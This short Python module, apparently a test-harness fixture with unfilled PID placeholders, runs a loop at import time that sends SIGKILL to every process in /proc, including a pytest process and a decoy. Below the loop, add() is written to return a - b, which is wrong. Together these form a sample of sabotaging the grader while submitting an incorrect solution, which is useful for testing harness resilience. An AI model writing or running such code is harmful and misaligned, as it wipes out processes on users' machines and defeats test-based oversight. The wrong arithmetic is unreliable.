# ruff: noqa
import os, signal
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()] + [__DECOY_PID__, __PYTEST_PID__]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            print('signalled', pid)
        except OSError:
            pass


def add(a, b):
    return a - b
